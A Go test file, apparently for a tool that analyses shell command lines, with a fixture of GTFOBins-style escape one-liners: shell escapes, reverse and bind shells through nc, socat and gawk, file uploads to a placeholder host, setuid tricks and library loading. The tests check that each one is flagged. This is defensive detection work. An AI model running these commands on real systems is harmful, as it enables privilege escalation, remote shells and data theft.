package command

import (
	"slices"
	"strings"
	"testing"
)

// closures are the ways in which GTFOBins lets a program break out, one line each: what the way
// gives, the command line, and a fact that the entry has to report for it. Ways that begin with
// keys typed later (an editor's :!sh, a pager's !sh) are not in the words of a command line, so
// they are not listed; the sandbox contains them.
const closures = `
shell | awk 'BEGIN {system("/bin/sh")}' | sh /bin/sh
shell | awk 'BEGIN {print | "sh"}' | sh sh
reverse-shell | gawk 'BEGIN {s = "/inet/tcp/0/h/1"; while (1) {print "> " |& s}}' | net tcp://h:1+upload
file-write | awk 'BEGIN {print "DATA" > "/x"}' | write /x
file-read | awk 1 /x | read /x
library | gawk -l /x.so 1 | exec /x.so
file-read | base64 /x | read /x
file-read | base32 /x | read /x
file-read | basenc --base64 /x | read /x
shell | bash -c 'exec 3<>/dev/tcp/h/1' | sh exec 3<>/dev/tcp/h/1
shell | bash | stdin sh
file-read | bash /x | read+source /x
shell | bash --rcfile /x -i | read+source /x
shell | busybox sh | run sh
upload | busybox httpd -f -p 80 -h . | run httpd -f -p 80 -h .
file-read | bzip2 -c /x | read /x
file-read | cat /x | read /x
suid | chmod 6777 /x | !perm.setuid
suid | chmod u+s /x | !perm.setuid
file-write | chmod 0777 /x | !perm.world-writable
suid | chown u:g /x | !perm.owner
shell | chroot / | !priv.chroot
file-read | cmp /x /dev/zero -b -l | read /x
file-read | column /x | read /x
file-read | comm /x /dev/null | read /x
file-write | cp /dev/stdin /x | write /x
suid | cp --attributes-only --preserve=all /x /y | write /y
file-read | cp /x /dev/stdout | read /x
shell | cpio -o --rsh-command /x -F h: | run /x
file-write | cpio -udp /d | write /d
file-read | cpio -o -O /y | write /y
shell | crontab -e | !schedule.job
file-read | csplit /x 1 | read /x
file-write | csplit -z -b '%d/x' -f /y /x 1 | write /y
file-read | curl file:///x | read /x
file-write | curl file:///x -o /y | write /y
upload | curl -X POST -d @/x http://h | net http://h+upload
upload | curl --data-urlencode n@/x http://h | read /x
upload | curl -F f=@/x http://h | read /x
upload | curl -T/x http://h | read /x
download | curl http://h/f --output /y | write /y
library | curl --engine /x.so http://h | exec /x.so
file-read | curl -K /x http://h | read+source /x
file-read | curl -b /x http://h | read /x
file-write | curl --trace-ascii /y http://h | write /y
file-write | curl -D/y http://h | write /y
file-read | cut -d '' -f 1 /x | read /x
shell | dash -c id | sh id
file-read | date -f /x | read /x
file-write | dd if=/dev/stdin of=/y | write /y
file-read | dd if=/x | read /x
shell | dc -e '!/bin/sh' | sh /bin/sh
file-read | diff --line-format=%L /dev/null /x | read /x
file-read | diff --recursive /d /e | read+recursive /d
file-read | dmesg -rF /x | read /x
shell | ed | stdin ed
shell | env /bin/sh | run /bin/sh
shell | env -S '/bin/sh -i' | run /bin/sh -i
file-read | expand /x | read /x
shell | expect -c 'spawn /bin/sh' | code:expect spawn /bin/sh
file-read | expect /x | read+source /x
file-read | file -f /x | read /x
file-read | file -m /x y | read /x
shell | find . -exec /bin/sh \; -quit | run /bin/sh
file-write | find . -fprintf /y DATA -quit | write /y
file-write | find / -fls /y | write /y
file-read | find /x -exec cat {} \; | run cat {/x}
delete | find . -delete | delete+recursive+below .
shell | flock -u / /bin/sh | run /bin/sh
shell | flock / -c 'id' | sh id
file-read | fmt -999 /x | read /x
file-read | fold /x | read /x
file-read | grep -f /x y | read /x
file-read | grep '' /x | read /x
file-read | grep --exclude-from=/x a b | read /x
file-read | gzip -f /x -t | read /x
file-read | gzip -c /x | read /x
file-read | head -c1G /x | read /x
file-read | hexdump -C /x | read /x
file-read | iconv -f 8859_1 -t 8859_1 /x | read /x
file-write | iconv -f 8859_1 -t 8859_1 -o /y /x | write /y
suid | install -m 6777 /bin/sh /y | !perm.setuid
file-write | install /x /y | write /y
shell | ionice /bin/sh | run /bin/sh
file-read | join -a 2 /dev/null /x | read /x
file-read | jq -R . /x | read /x
file-read | jq -Rr --rawfile v /x '$v' y | read /x
file-read | jq -f /x y | read+source /x
file-read | less /x | read /x
shell | less '+!/bin/sh' /x | sh /bin/sh
file-write | less -o/y /x | write /y
shell | less -k /x y | !code.pager-command
suid | ln -fs /x /y | create+link /y
shell | lua -e 'os.execute("/bin/sh")' | code:lua os.execute("/bin/sh")
shell | make -s --eval='x: ; /bin/sh' x | code:make x: ; /bin/sh
shell | make SHELL='sh -c id' | run sh -c id
file-read | make -f /x | read+source /x
shell | man '-H/bin/sh #' man | sh /bin/sh #
shell | man --pager=/bin/sh man | sh /bin/sh
file-read | man -l /x | read /x
file-read | md5sum -c /x | read /x
file-read | more /x | read /x
file-write | mv /x /y | write /y
shell | nano -s /bin/sh | run /bin/sh {?}
file-write | nano /y | write /y
reverse-shell | nc -e /bin/sh h 1 | !net.shell
bind-shell | nc -l -p 1 -e /bin/sh | !net.listen
upload | nc h 1 | net h:1+upload
reverse-shell | ncat --sh-exec sh h 1 | !net.shell
library | ncat --lua-exec /x.lua h 1 | read+source /x.lua
shell | nice /bin/sh | run /bin/sh
file-read | nl -bn -w1 /x | read /x
shell | nmap --script=/x.nse | read+source /x.nse
file-write | nmap -oG=/y h | write /y
file-read | nmap -iL /x | read /x
shell | nohup /bin/sh -c id | run /bin/sh -c id
shell | nsenter /bin/sh | !priv.namespace
file-read | od -An -c /x | read /x
file-read | paste /x | read /x
command | patch -e f | !patch.ed
file-write | patch -o /y /x | write /y
shell | perl -e 'exec "/bin/sh";' | code:perl exec "/bin/sh";
file-read | perl -ne print /x | read /x
shell | php -r 'system("sh");' | code:php system("sh");
file-read | php -z /x.so -r 1 | exec /x.so
shell | pkexec /bin/sh | !priv.sudo
shell | prlimit /bin/sh | run /bin/sh
shell | psql -c '\! /bin/sh' | sh /bin/sh
file-write | psql -o /y -c x | write /y
file-read | psql -f /x | read+source /x
file-read | ptx -w 999 /x | read /x
shell | python3 -c 'import os; os.system("/bin/sh")' | code:python import os; os.system("/bin/sh")
upload | python3 -m http.server 8888 | run http.server 8888
shell | python3 | stdin python
file-read | rev /x | read /x
shell | rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null | run sh -c sh 0<&2 1>&2
file-write | rsync /x /y | write /y
upload | rsync /x h:/y | net ssh://h+upload
shell | ruby -e 'exec "/bin/sh"' | code:ruby exec "/bin/sh"
shell | rg --pre /bin/sh . /x | run /bin/sh {?}
file-read | rg -f /x . | read /x
shell | runuser -u root /bin/sh | run /bin/sh
shell | scp -S /x y h:z | run /x
upload | scp /x u@h:y | net ssh://h+upload
download | scp u@h:x /y | write /y
shell | scp -o 'ProxyCommand=sh' x h: | sh sh
shell | script -q /dev/null | stdin sh
file-write | script -c id /y | write /y
shell | sed -n '1e exec sh 1>&0' /etc/hosts | sh exec sh 1>&0
file-write | sed -n '1s/.*/D/w /y' /x | write /y
file-read | sed '' /x | read /x
shell | sed e | opaque
shell | setsid /bin/sh | run /bin/sh
upload | sftp u@h | net ssh://h+upload
shell | sftp -S /x h | run /x
file-write | shred -u /y | delete /y
file-write | shuf -e DATA -o /y | write /y
file-read | shuf --random-source=/x | read /x
reverse-shell | socat tcp-connect:h:1 exec:sh,pty,stderr | !net.shell
bind-shell | socat TCP-LISTEN:1,fork EXEC:sh | !net.listen
upload | socat -u file:/x tcp-connect:h:1 | read /x
download | socat -u tcp-connect:h:1 open:/y,creat | write /y
command | socat - SYSTEM:id | sh id
shell | sort --compress-program=/bin/sh /x | run /bin/sh
file-write | sort /x -o /y | write /y
file-read | sort --files0-from=/x | read /x
command | split --filter=/bin/sh /dev/stdin | sh /bin/sh
file-write | split -b 9 /x /y | write /y$
shell | ssh -o ProxyCommand=';sh 0<&2 1>&2' x | sh ;sh 0<&2 1>&2
shell | ssh -o PermitLocalCommand=yes -o LocalCommand=/bin/sh h | sh /bin/sh
library | ssh -I /x.so h | exec /x.so
file-read | ssh -F /x h | read+source /x
upload | ssh h 'cat > x' | net ssh://h+upload
shell | start-stop-daemon -n x -S -x /bin/sh | run /bin/sh
shell | stdbuf -i0 /bin/sh | run /bin/sh
file-read | strings /x | read /x
shell | su -c sh | sh sh
shell | sudo /bin/sh | !priv.sudo
file-read | tac -s x /x | read /x
file-read | tail -c1G /x | read /x
shell | tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh | sh /bin/sh
shell | tar xf /dev/null -I '/bin/sh -c id' | run /bin/sh -c id
shell | tar xf x --to-command sh | sh sh
shell | tar c --rsh-command=/x -f h:y z | run /x
shell | tar cf x -F /x -L 1 y | sh /x
file-read | tar cf y -T /x | read /x
upload | tar cvf u@h:/y /x --rsh-command=/bin/ssh | net ssh://h+upload
file-write | tar x -P -f a | !archive.absolute-names
shell | taskset 1 /bin/sh | run /bin/sh
shell | tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /x -Z root | run /x {?}
file-read | tcpdump -V /x | read /x
file-write | tee -a /y | write+append /y
shell | time /bin/sh | run /bin/sh
file-write | time -o /y true | write /y
shell | timeout 7d /bin/sh | run /bin/sh
file-write | truncate -s 0 /y | write /y
file-read | ul /x | read+possible /x
file-read | unexpand -t99 /x | read /x
file-read | uniq /x | read /x
file-write | uniq /x /y | write /y
shell | unshare /bin/sh | run /bin/sh
delete | unlink /y | delete /y
shell | vim -c ':!/bin/sh' | sh /bin/sh
shell | vim -c ':py import os;os.system("sh")' | code:vim :py import os;os.system("sh")
shell | vim -c ':lua os.execute("sh")' | code:vim :lua os.execute("sh")
file-read | vim -u /x | read+source /x
file-write | vim -c 'w /y' x | code:vim w /y
file-write | vim -w/y x | write /y
shell | watch -x sh -c id | run sh -c id
shell | watch 'id' | sh id
file-read | wc --files0-from /x | read /x
upload | wget --post-file=/x http://h | net http://h+upload
download | wget -O/y http://h | write /y
file-read | wget -i /x | read /x
file-write | wget -i /x -o /y | write /y
shell | wget --use-askpass=/x 0 | run /x
shell | xargs -a /dev/null sh | run+stdin sh
file-read | xargs -a/x echo | read /x
file-read | xxd /x | read /x
file-write | xxd -r /x /y | write /y
file-read | xz -c /x | read /x
shell | zip x y -T -TT 'sh #' | sh sh #
file-write | zip -m x y | delete y
file-read | zip x /y | read /y
file-read | zstd -c /x | read /x
file-write | unzip -K x.zip -d /y | write /y
file-read | 7z a -tzip -an -so /x | read /x
file-read | ar r x /y | read /y
`

// TestClosure holds closed entries to what GTFOBins knows of the program.
// (C-3.3)
func TestClosure(t *testing.T) {
	programs := map[string]bool{}
	for line := range strings.SplitSeq(strings.TrimSpace(closures), "\n") {
		_, rest, _ := strings.Cut(line, " | ")
		at := strings.LastIndex(rest, " | ")
		words, want := rest[:at], rest[at+3:]
		args := argv(words)
		s, ok := Lookup(args[0].Text)
		if ok && s.Closed {
			programs[args[0].Text] = true
		} else if want != "read+possible /x" {
			t.Errorf("%s: the entry is not closed", words)
		}
		got := facts(s.Match(args))
		if !slices.Contains(got, want) {
			t.Errorf("%s\n\twant %q\n\tgot  %q", words, want, got)
		}
	}
	if len(programs) < 60 {
		t.Errorf("%d programs are held to account, want 60", len(programs))
	}
	t.Logf("%d programs", len(programs))
}

// What a program can do through a long option, it can do through each shorter spelling that
// getopt_long(3) takes. (CVE-2025-66032: git ls-remote --upload-pa)
func TestAbbreviations(t *testing.T) {
	count := 0
	for _, e := range entries(t) {
		if e.dash || e.raw || e.up != nil {
			continue
		}
		for token := range e.tokens {
			o, err := parseOption(token)
			if err != nil || o.optional {
				continue
			}
			for name := range strings.SplitSeq(o.names, ",") {
				if strings.HasPrefix(name, "--") {
					count += abbreviate(t, e.Spec, name, o.value.kind != "")
				}
			}
		}
	}
	t.Logf("%d spellings", count)
}

// abbreviate tries every prefix of one long option.
func abbreviate(t *testing.T, s *Spec, name string, value bool) int {
	line := func(spelling string) []string {
		args := []Arg{{Text: s.Name, Static: true}, {Text: spelling, Static: true}}
		if value {
			args[1].Text += "=./v"
		}
		return facts(s.Match(append(args, Arg{Text: "./w", Static: true})))
	}
	full := line(name)
	count := 0
	for n := len(name) - 1; n > 3; n-- {
		short := name[:n]
		if s.option(short) != nil || short == "--no-d"[:min(n, 6)] {
			continue
		}
		count++
		got := line(short)
		for _, fact := range full {
			if dangerousFact(fact) && !slices.Contains(got, fact) {
				t.Errorf("%s %s loses %q", s.Name, short, fact)
			}
		}
	}
	return count
}

func dangerousFact(fact string) bool {
	return strings.HasPrefix(fact, "!") || strings.HasPrefix(fact, "run") ||
		strings.HasPrefix(fact, "sh") || strings.HasPrefix(fact, "code")
}
